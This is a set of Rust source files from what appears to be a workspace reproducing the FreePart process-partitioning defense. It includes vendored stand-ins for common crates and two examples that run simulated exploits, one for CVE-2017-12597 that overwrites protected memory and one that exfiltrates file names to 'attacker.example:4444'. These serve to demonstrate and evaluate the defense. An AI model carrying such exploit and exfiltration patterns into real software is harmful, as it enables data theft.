//! Umbrella crate for the FreePart reproduction workspace.
//!
//! Re-exports every sub-crate under one roof so the root-level examples
//! and integration tests have a single dependency surface. Library users
//! should depend on the individual crates (`freepart`, `freepart-simos`,
//! ...) directly.

pub use freepart as core;
pub use freepart_analysis as analysis;
pub use freepart_apps as apps;
pub use freepart_attacks as attacks;
pub use freepart_baselines as baselines;
pub use freepart_frameworks as frameworks;
pub use freepart_simos as simos;
