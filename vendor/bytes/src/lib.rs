//! Offline stand-in for the `bytes` crate.
//!
//! Implements the subset of the `bytes::Bytes` API this workspace uses:
//! construction from slices and static data, cheap `Clone`, and `Deref`
//! to `[u8]`. Payloads are reference-counted so clones share storage,
//! matching the real crate's semantics for the operations used here.

#![forbid(unsafe_code)]

use std::fmt;
use std::ops::Deref;
use std::sync::Arc;

/// A cheaply clonable, immutable chunk of bytes.
#[derive(Clone, Default)]
pub struct Bytes {
    data: Arc<[u8]>,
}

impl Bytes {
    /// An empty chunk.
    pub fn new() -> Bytes {
        Bytes::default()
    }

    /// Copies `data` into a new reference-counted chunk.
    pub fn copy_from_slice(data: &[u8]) -> Bytes {
        Bytes { data: data.into() }
    }

    /// Wraps static data (copied here; the real crate borrows, but the
    /// observable behaviour is identical for this workspace).
    pub fn from_static(data: &'static [u8]) -> Bytes {
        Bytes::copy_from_slice(data)
    }

    /// Number of bytes.
    pub fn len(&self) -> usize {
        self.data.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// Copies the contents into a fresh `Vec`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.data.to_vec()
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.data
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        &self.data
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Bytes {
        Bytes { data: v.into() }
    }
}

impl From<&[u8]> for Bytes {
    fn from(v: &[u8]) -> Bytes {
        Bytes::copy_from_slice(v)
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Bytes) -> bool {
        self.data == other.data
    }
}

impl Eq for Bytes {}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        &*self.data == other
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Bytes({} bytes)", self.data.len())
    }
}

#[cfg(test)]
mod tests {
    use super::Bytes;

    #[test]
    fn roundtrip_and_clone_share() {
        let b = Bytes::copy_from_slice(&[1, 2, 3]);
        let c = b.clone();
        assert_eq!(&b[..], &[1, 2, 3]);
        assert_eq!(b, c);
        assert_eq!(b.len(), 3);
        assert!(!b.is_empty());
        assert_eq!(Bytes::from_static(b"xy").to_vec(), vec![b'x', b'y']);
    }
}
