//! Offline stand-in for the `criterion` crate.
//!
//! The build environment has no crates.io access, so this vendored crate
//! implements the API subset the workspace's benches use: `Criterion`,
//! benchmark groups, `Bencher::{iter, iter_batched}`, `BenchmarkId`, and
//! the `criterion_group!` / `criterion_main!` macros.
//!
//! Instead of statistical sampling it runs a short calibrated loop and
//! prints mean wall-clock time per iteration — enough to eyeball
//! regressions and to keep `cargo bench` compiling and running offline.

#![forbid(unsafe_code)]

use std::fmt;
use std::time::{Duration, Instant};

/// How batched setup output is sized. Mirrors `criterion::BatchSize`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BatchSize {
    /// Small per-iteration inputs.
    SmallInput,
    /// Large per-iteration inputs.
    LargeInput,
    /// One input per batch.
    PerIteration,
}

/// Labels a parameterised benchmark. Mirrors `criterion::BenchmarkId`.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    label: String,
}

impl BenchmarkId {
    /// `function_name/parameter` form.
    pub fn new<P: fmt::Display>(function_name: &str, parameter: P) -> BenchmarkId {
        BenchmarkId {
            label: format!("{function_name}/{parameter}"),
        }
    }

    /// Parameter-only form.
    pub fn from_parameter<P: fmt::Display>(parameter: P) -> BenchmarkId {
        BenchmarkId {
            label: parameter.to_string(),
        }
    }
}

impl fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.label)
    }
}

/// Runs the measured routine. Mirrors `criterion::Bencher`.
pub struct Bencher {
    iters: u64,
    elapsed: Duration,
}

impl Bencher {
    /// Times `routine` over the calibrated iteration count.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        let start = Instant::now();
        for _ in 0..self.iters {
            std::hint::black_box(routine());
        }
        self.elapsed = start.elapsed();
    }

    /// Times `routine` over fresh `setup` outputs, excluding setup time.
    pub fn iter_batched<I, O, S, R>(&mut self, mut setup: S, mut routine: R, _size: BatchSize)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        let mut total = Duration::ZERO;
        for _ in 0..self.iters {
            let input = setup();
            let start = Instant::now();
            std::hint::black_box(routine(input));
            total += start.elapsed();
        }
        self.elapsed = total;
    }
}

fn run_once(name: &str, sample_size: u64, f: &mut dyn FnMut(&mut Bencher)) {
    // Calibrate: one iteration first, then enough to fill a short window.
    let mut probe = Bencher {
        iters: 1,
        elapsed: Duration::ZERO,
    };
    f(&mut probe);
    let per_iter = probe.elapsed.max(Duration::from_nanos(1));
    let window = Duration::from_millis(50);
    let iters = (window.as_nanos() / per_iter.as_nanos()).clamp(1, sample_size as u128) as u64;
    let mut bench = Bencher {
        iters,
        elapsed: Duration::ZERO,
    };
    f(&mut bench);
    let mean = bench.elapsed.as_nanos() / bench.iters.max(1) as u128;
    println!("bench {name}: {mean} ns/iter ({iters} iters)");
}

/// A named set of related benchmarks. Mirrors `criterion::BenchmarkGroup`.
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: u64,
    _parent: &'a mut Criterion,
}

impl<'a> BenchmarkGroup<'a> {
    /// Caps the calibrated iteration count.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n as u64;
        self
    }

    /// Runs one benchmark in the group.
    pub fn bench_function<F>(&mut self, id: impl fmt::Display, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let name = format!("{}/{}", self.name, id);
        run_once(&name, self.sample_size, &mut f);
        self
    }

    /// Runs one parameterised benchmark in the group.
    pub fn bench_with_input<P, F>(&mut self, id: BenchmarkId, input: &P, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher, &P),
    {
        let name = format!("{}/{}", self.name, id);
        run_once(&name, self.sample_size, &mut |b| f(b, input));
        self
    }

    /// Ends the group (report finalisation in the real crate; no-op here).
    pub fn finish(&mut self) {}
}

/// The benchmark harness entry point. Mirrors `criterion::Criterion`.
#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    /// A harness with default settings.
    pub fn new() -> Criterion {
        Criterion::default()
    }

    /// Opens a named benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            name: name.into(),
            sample_size: 100,
            _parent: self,
        }
    }

    /// Runs one stand-alone benchmark.
    pub fn bench_function<F>(&mut self, name: &str, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        run_once(name, 100, &mut f);
        self
    }
}

/// Declares a group of benchmark functions. Mirrors `criterion_group!`.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group() {
            let mut criterion = $crate::Criterion::new();
            $($target(&mut criterion);)+
        }
    };
}

/// Declares the bench `main` running the listed groups. Mirrors
/// `criterion_main!`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_runs_and_times() {
        let mut c = Criterion::new();
        c.bench_function("noop", |b| b.iter(|| 1 + 1));
        let mut g = c.benchmark_group("g");
        g.sample_size(10);
        g.bench_with_input(BenchmarkId::new("sq", 3), &3u64, |b, &x| {
            b.iter_batched(|| x, |v| v * v, BatchSize::SmallInput)
        });
        g.finish();
    }
}
