//! Offline stand-in for the `proptest` crate.
//!
//! The build environment has no crates.io access, so this vendored crate
//! implements the subset of proptest the workspace's property tests use:
//! the [`proptest!`] macro (with an optional `#![proptest_config(...)]`
//! header), integer-range and [`any`] strategies, tuple composition,
//! [`Strategy::prop_map`], [`prop_oneof!`], [`Just`], and the
//! `collection::{vec, btree_set}` generators.
//!
//! Cases are generated from a deterministic per-test seed (derived from
//! the test function's name), so failures reproduce exactly. There is no
//! shrinking: a failing case panics with the generated inputs visible in
//! the assertion message.

#![forbid(unsafe_code)]

use std::collections::BTreeSet;
use std::ops::Range;

/// Deterministic generator driving case production (splitmix64).
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// A generator seeded for one test run.
    pub fn new(seed: u64) -> TestRng {
        TestRng { state: seed }
    }

    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform draw below `bound` (bound > 0).
    pub fn below(&mut self, bound: u64) -> u64 {
        self.next_u64() % bound
    }
}

/// Seed derived from a test's name, stable across runs.
pub fn seed_of(name: &str) -> u64 {
    // FNV-1a 64.
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// A value generator. Mirrors `proptest::strategy::Strategy` minus
/// shrinking.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Produces one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }

    /// Type-erases the strategy (used by [`prop_oneof!`]).
    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        BoxedStrategy(Box::new(move |rng| self.generate(rng)))
    }
}

/// A type-erased strategy.
pub struct BoxedStrategy<V>(Box<dyn Fn(&mut TestRng) -> V>);

impl<V> Strategy for BoxedStrategy<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        (self.0)(rng)
    }
}

/// Output of [`Strategy::prop_map`].
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;
    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

/// Always produces a clone of one value. Mirrors `proptest::strategy::Just`.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// Uniform choice among boxed strategies — what [`prop_oneof!`] builds.
pub struct Union<V> {
    options: Vec<BoxedStrategy<V>>,
}

impl<V> Union<V> {
    /// A union over `options` (must be non-empty).
    pub fn new(options: Vec<BoxedStrategy<V>>) -> Union<V> {
        assert!(!options.is_empty(), "prop_oneof! needs at least one arm");
        Union { options }
    }
}

impl<V> Strategy for Union<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        let i = rng.below(self.options.len() as u64) as usize;
        self.options[i].generate(rng)
    }
}

/// Types with a canonical full-domain strategy. Mirrors `Arbitrary`.
pub trait Arbitrary: Sized {
    /// Draws one value from 64 random bits.
    fn arbitrary(bits: u64) -> Self;
}

macro_rules! arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(bits: u64) -> Self {
                bits as $t
            }
        }
    )*};
}
arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(bits: u64) -> Self {
        bits & 1 == 1
    }
}

/// The full-domain strategy for `T`. Mirrors `proptest::prelude::any`.
pub fn any<T: Arbitrary>() -> AnyStrategy<T> {
    AnyStrategy(std::marker::PhantomData)
}

/// Output of [`any`].
pub struct AnyStrategy<T>(std::marker::PhantomData<T>);

impl<T: Arbitrary> Strategy for AnyStrategy<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng.next_u64())
    }
}

macro_rules! range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as u128 - self.start as u128) as u64;
                self.start + rng.below(span) as $t
            }
        }
    )*};
}
range_strategy!(u8, u16, u32, u64, usize, i32, i64);

macro_rules! tuple_strategy {
    ($(($($name:ident),+);)*) => {$(
        #[allow(non_snake_case)]
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                let ($($name,)+) = self;
                ($($name.generate(rng),)+)
            }
        }
    )*};
}
tuple_strategy! {
    (A);
    (A, B);
    (A, B, C);
    (A, B, C, D);
    (A, B, C, D, E);
}

/// Collection strategies. Mirrors `proptest::collection`.
pub mod collection {
    use super::{Strategy, TestRng};
    use std::collections::BTreeSet;
    use std::ops::Range;

    /// Vectors of `size`-range lengths with `element`-generated items.
    pub fn vec<S: Strategy>(element: S, size: Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, size }
    }

    /// Output of [`vec`].
    pub struct VecStrategy<S> {
        element: S,
        size: Range<usize>,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let n = self.size.generate(rng);
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }

    /// Ordered sets with `size`-range target cardinalities. Duplicate
    /// draws are retried a bounded number of times, so the resulting set
    /// may be smaller than the target when the element domain is tight.
    pub fn btree_set<S>(element: S, size: Range<usize>) -> BTreeSetStrategy<S>
    where
        S: Strategy,
        S::Value: Ord,
    {
        BTreeSetStrategy { element, size }
    }

    /// Output of [`btree_set`].
    pub struct BTreeSetStrategy<S> {
        element: S,
        size: Range<usize>,
    }

    impl<S> Strategy for BTreeSetStrategy<S>
    where
        S: Strategy,
        S::Value: Ord,
    {
        type Value = BTreeSet<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> BTreeSet<S::Value> {
            let target = self.size.generate(rng);
            let mut out = BTreeSet::new();
            let mut attempts = 0;
            while out.len() < target && attempts < target * 10 + 16 {
                out.insert(self.element.generate(rng));
                attempts += 1;
            }
            out
        }
    }
}

// Re-exported so `proptest::collection::btree_set(0usize..n, ..)` and
// plain `0usize..n` bindings both work.
pub use collection as prop_collection;

/// Per-test configuration. Mirrors `proptest::test_runner::Config`.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of cases generated per test.
    pub cases: u32,
}

impl ProptestConfig {
    /// A config running `cases` cases.
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> ProptestConfig {
        // The real crate defaults to 256; 48 keeps the offline suite
        // fast while still exercising a meaningful input spread.
        ProptestConfig { cases: 48 }
    }
}

/// Everything the tests import. Mirrors `proptest::prelude`.
pub mod prelude {
    pub use crate::{
        any, prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest, Just,
        ProptestConfig, Strategy,
    };
}

/// Declares deterministic property tests.
///
/// Supports the real macro's common form: an optional
/// `#![proptest_config(...)]` header followed by `#[test] fn` items whose
/// parameters are `name in strategy` bindings.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_items! { ($cfg); $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_items! { ($crate::ProptestConfig::default()); $($rest)* }
    };
}

/// Internal expansion helper for [`proptest!`]. Not public API.
#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_items {
    (($cfg:expr);) => {};
    (($cfg:expr);
     $(#[$meta:meta])*
     fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
     $($rest:tt)*) => {
        $(#[$meta])*
        fn $name() {
            let config: $crate::ProptestConfig = $cfg;
            let mut rng = $crate::TestRng::new($crate::seed_of(stringify!($name)));
            for case in 0..config.cases {
                $(let $arg = $crate::Strategy::generate(&($strat), &mut rng);)+
                let result = ::std::panic::catch_unwind(::std::panic::AssertUnwindSafe(|| {
                    $body
                }));
                if let Err(panic) = result {
                    eprintln!(
                        "proptest case {case}/{total} failed for {test}:",
                        total = config.cases,
                        test = stringify!($name),
                    );
                    ::std::panic::resume_unwind(panic);
                }
            }
        }
        $crate::__proptest_items! { ($cfg); $($rest)* }
    };
}

/// Boolean property assertion (panics on failure, like `assert!`).
#[macro_export]
macro_rules! prop_assert {
    ($($tt:tt)*) => { assert!($($tt)*) };
}

/// Equality property assertion.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($tt:tt)*) => { assert_eq!($($tt)*) };
}

/// Inequality property assertion.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($tt:tt)*) => { assert_ne!($($tt)*) };
}

/// Uniform choice among strategies with a common value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::Union::new(vec![$($crate::Strategy::boxed($strat)),+])
    };
}

/// `BTreeSet` re-export point used by generated code.
pub type PropBTreeSet<T> = BTreeSet<T>;

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(16))]

        #[test]
        fn ranges_stay_in_bounds(x in 3u32..17, y in 0usize..4) {
            prop_assert!((3..17).contains(&x));
            prop_assert!(y < 4);
        }

        #[test]
        fn collections_respect_sizes(
            v in crate::collection::vec(any::<u8>(), 1..9),
            s in crate::collection::btree_set(0u32..100, 0..5),
        ) {
            prop_assert!(!v.is_empty() && v.len() < 9);
            prop_assert!(s.len() < 5);
        }

        #[test]
        fn combinators_compose(
            m in (1u8..5, 10u8..20).prop_map(|(a, b)| a as u16 * b as u16),
            j in Just(7i64),
            o in prop_oneof![Just(1u8), Just(2u8), 3u8..5],
        ) {
            prop_assert!((10..80).contains(&m));
            prop_assert_eq!(j, 7);
            prop_assert!((1..5).contains(&o));
        }
    }

    #[test]
    fn seeds_are_stable() {
        assert_eq!(super::seed_of("abc"), super::seed_of("abc"));
        assert_ne!(super::seed_of("abc"), super::seed_of("abd"));
    }
}
