//! Offline stand-in for the `rand` crate.
//!
//! The build environment has no crates.io access, so this vendored crate
//! implements the small, fully deterministic subset of the `rand` 0.8
//! API the workspace actually uses: `StdRng::seed_from_u64`, `Rng::gen`,
//! `Rng::gen_range` over integer ranges, and `SliceRandom::shuffle`.
//! The generator is xoshiro256** seeded via splitmix64 — high quality,
//! reproducible, and dependency-free.

#![forbid(unsafe_code)]

/// Seedable generators, mirroring `rand::rngs`.
pub mod rngs {
    /// A deterministic xoshiro256** generator (stand-in for `StdRng`).
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl StdRng {
        pub(crate) fn from_u64(seed: u64) -> StdRng {
            // splitmix64 stream expands the seed into the full state.
            let mut x = seed;
            let mut next = || {
                x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
                let mut z = x;
                z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
                z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
                z ^ (z >> 31)
            };
            let s = [next(), next(), next(), next()];
            StdRng { s }
        }

        pub(crate) fn next_u64_impl(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }
    }
}

/// Types that can be drawn uniformly from the full domain (`rng.gen()`).
pub trait Standard: Sized {
    /// Draws one value from 64 random bits.
    fn from_bits(bits: u64) -> Self;
}

macro_rules! standard_int {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn from_bits(bits: u64) -> Self {
                bits as $t
            }
        }
    )*};
}
standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for bool {
    fn from_bits(bits: u64) -> Self {
        bits & 1 == 1
    }
}

impl Standard for f64 {
    fn from_bits(bits: u64) -> Self {
        // Uniform in [0, 1): 53 mantissa bits.
        (bits >> 11) as f64 / (1u64 << 53) as f64
    }
}

impl Standard for f32 {
    fn from_bits(bits: u64) -> Self {
        (bits >> 40) as f32 / (1u64 << 24) as f32
    }
}

/// Ranges `gen_range` can sample values of `T` from. The output type
/// is a trait parameter (mirroring the real crate) so integer literal
/// ranges infer their type from the call site.
pub trait SampleRange<T> {
    /// Draws one value with the supplied 64-bit entropy source.
    fn sample(&self, next: &mut dyn FnMut() -> u64) -> T;
}

macro_rules! sample_range_int {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for core::ops::Range<$t> {
            fn sample(&self, next: &mut dyn FnMut() -> u64) -> $t {
                assert!(self.start < self.end, "empty range in gen_range");
                let span = (self.end as u128).wrapping_sub(self.start as u128) as u64;
                self.start + (next() % span) as $t
            }
        }
        impl SampleRange<$t> for core::ops::RangeInclusive<$t> {
            fn sample(&self, next: &mut dyn FnMut() -> u64) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "empty range in gen_range");
                let span = (hi as u128) - (lo as u128) + 1;
                lo + (next() as u128 % span) as $t
            }
        }
    )*};
}
sample_range_int!(u8, u16, u32, u64, usize, i32, i64);

impl SampleRange<f64> for core::ops::Range<f64> {
    fn sample(&self, next: &mut dyn FnMut() -> u64) -> f64 {
        self.start + f64::from_bits_uniform(next()) * (self.end - self.start)
    }
}

trait F64Uniform {
    fn from_bits_uniform(bits: u64) -> f64;
}
impl F64Uniform for f64 {
    fn from_bits_uniform(bits: u64) -> f64 {
        (bits >> 11) as f64 / (1u64 << 53) as f64
    }
}

/// The user-facing generator trait, mirroring `rand::Rng`.
pub trait Rng {
    /// Raw 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Draws a uniform value of `T`.
    fn gen<T: Standard>(&mut self) -> T {
        T::from_bits(self.next_u64())
    }

    /// Draws a value uniformly from `range`.
    fn gen_range<T, R: SampleRange<T>>(&mut self, range: R) -> T {
        let mut f = || self.next_u64();
        range.sample(&mut f)
    }

    /// Bernoulli draw with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        <f64 as Standard>::from_bits(self.next_u64()) < p
    }
}

impl Rng for rngs::StdRng {
    fn next_u64(&mut self) -> u64 {
        self.next_u64_impl()
    }
}

impl<R: Rng + ?Sized> Rng for &mut R {
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
}

/// Construction from seeds, mirroring `rand::SeedableRng`.
pub trait SeedableRng: Sized {
    /// Builds a generator from a 64-bit seed.
    fn seed_from_u64(seed: u64) -> Self;
}

impl SeedableRng for rngs::StdRng {
    fn seed_from_u64(seed: u64) -> Self {
        rngs::StdRng::from_u64(seed)
    }
}

/// Slice helpers, mirroring `rand::seq`.
pub mod seq {
    use super::Rng;

    /// Random-order operations on slices.
    pub trait SliceRandom {
        /// The element type.
        type Item;
        /// Fisher–Yates shuffle in place.
        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R);
        /// One uniformly chosen element, `None` when empty.
        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&Self::Item>;
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = (rng.next_u64() % (i as u64 + 1)) as usize;
                self.swap(i, j);
            }
        }

        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&T> {
            if self.is_empty() {
                None
            } else {
                self.get((rng.next_u64() % self.len() as u64) as usize)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::seq::SliceRandom;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        let mut c = StdRng::seed_from_u64(8);
        let xs: Vec<u64> = (0..8).map(|_| a.next_u64()).collect();
        let ys: Vec<u64> = (0..8).map(|_| b.next_u64()).collect();
        let zs: Vec<u64> = (0..8).map(|_| c.next_u64()).collect();
        assert_eq!(xs, ys);
        assert_ne!(xs, zs);
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..1000 {
            let v = rng.gen_range(3u32..17);
            assert!((3..17).contains(&v));
            let w = rng.gen_range(1usize..=4);
            assert!((1..=4).contains(&w));
        }
    }

    #[test]
    fn shuffle_is_a_permutation() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut v: Vec<u32> = (0..50).collect();
        v.shuffle(&mut rng);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<u32>>());
    }
}
