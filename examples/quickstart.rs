//! Quickstart: install FreePart, run a hooked image pipeline, and watch
//! an exploit get contained.
//!
//! ```text
//! cargo run --example quickstart
//! ```

use freepart_suite::core::{Policy, Runtime};
use freepart_suite::frameworks::registry::standard_registry;
use freepart_suite::frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};

fn main() {
    // 1. Install FreePart over the standard framework catalog: this runs
    //    the hybrid API categorization and spawns the host + four agent
    //    processes (data loading / processing / visualizing / storing).
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    println!(
        "installed: {} processes, state = {}",
        rt.kernel.process_count(),
        rt.current_state()
    );

    // 2. Annotate critical application data — it lives in the host
    //    process and is protected by temporal memory permissions.
    let secret = rt.host_data("answer-key", b"the grades must not change");

    // 3. Run a normal pipeline. Every call is hooked into an RPC and
    //    executes in the agent process of its API type.
    let img = Image::new(32, 32, 3);
    rt.kernel
        .fs
        .put("/input.simg", fileio::encode_image(&img, None));
    let loaded = rt
        .call("cv2.imread", &[Value::from("/input.simg")])
        .unwrap();
    let gray = rt.call("cv2.cvtColor", &[loaded]).unwrap();
    let edges = rt.call("cv2.Canny", &[gray]).unwrap();
    rt.call("cv2.imshow", &[Value::from("preview"), edges.clone()])
        .unwrap();
    rt.call("cv2.imwrite", &[Value::from("/edges.simg"), edges])
        .unwrap();
    println!(
        "pipeline done: state = {}, stats = {:?}",
        rt.current_state(),
        rt.stats()
    );

    // 4. Feed a crafted image that exploits CVE-2017-12597 in imread and
    //    tries to overwrite the answer key at its exact address.
    let addr = rt.objects.meta(secret).unwrap().buffer.unwrap().0;
    let payload = ExploitPayload {
        cve: "CVE-2017-12597".into(),
        actions: vec![ExploitAction::WriteMem {
            addr: addr.0,
            bytes: vec![0x41; 8],
        }],
    };
    rt.kernel
        .fs
        .put("/evil.simg", fileio::encode_image(&img, Some(&payload)));
    let result = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    println!("malicious imread -> {result:?}");

    // 5. The write landed in the loading agent's address space, where
    //    that address is unmapped: the exploit faulted, the agent was
    //    restarted, and the key is intact.
    let key = rt.fetch_bytes(secret).unwrap();
    assert_eq!(key, b"the grades must not change");
    println!("answer key intact: {:?}", String::from_utf8_lossy(&key));
    println!(
        "exploit outcomes: {:?}",
        rt.exploit_log
            .iter()
            .map(|r| &r.outcome)
            .collect::<Vec<_>>()
    );
    println!("agent restarts: {}", rt.stats().restarts);
}
