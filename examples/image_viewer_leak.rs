//! The §5.4.2 case study: the MComix3 image viewer leaking its
//! recently-opened-files list through an image-parser exploit.
//!
//! ```text
//! cargo run --example image_viewer_leak
//! ```

use freepart_suite::apps::mcomix::{self, ViewerConfig};
use freepart_suite::attacks::{judge, payloads, AttackGoal};
use freepart_suite::baselines::{ApiSurface, MonolithicRuntime};
use freepart_suite::core::{Policy, Runtime};
use freepart_suite::frameworks::registry::standard_registry;

fn files() -> Vec<String> {
    vec![
        "/home/user/medical-scan-2026.png".to_owned(),
        "/home/user/passport-photo.png".to_owned(),
        "/home/user/wallpaper.png".to_owned(),
    ]
}

fn session(label: &str, surface: &mut dyn ApiSurface, recent_addr: u64) {
    let cfg = ViewerConfig {
        files: files(),
        evil_at: Some((
            1,
            payloads::exfiltrate("CVE-2020-10378", recent_addr, 48, "attacker.example:4444"),
        )),
    };
    let r = mcomix::run(surface, &cfg);
    let log = surface.exploit_log().to_vec();
    let (kernel, objects, host) = surface.attack_view();
    let verdict = judge(
        &AttackGoal::Exfiltrate {
            marker: b"medical-scan".to_vec(),
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("--- {label} ---");
    println!("files displayed: {}/3", r.displayed);
    println!("recent-file-name exfiltration: {verdict:?}");
    println!(
        "network egress log: {} sends\n",
        kernel.network.sends().len()
    );
}

fn probe_addr(surface: &mut dyn ApiSurface) -> u64 {
    let r = mcomix::run(
        surface,
        &ViewerConfig {
            files: files(),
            evil_at: None,
        },
    );
    surface
        .objects()
        .meta(r.recent)
        .unwrap()
        .buffer
        .unwrap()
        .0
         .0
}

fn main() {
    let addr = probe_addr(&mut MonolithicRuntime::original(standard_registry()));
    let mut orig = MonolithicRuntime::original(standard_registry());
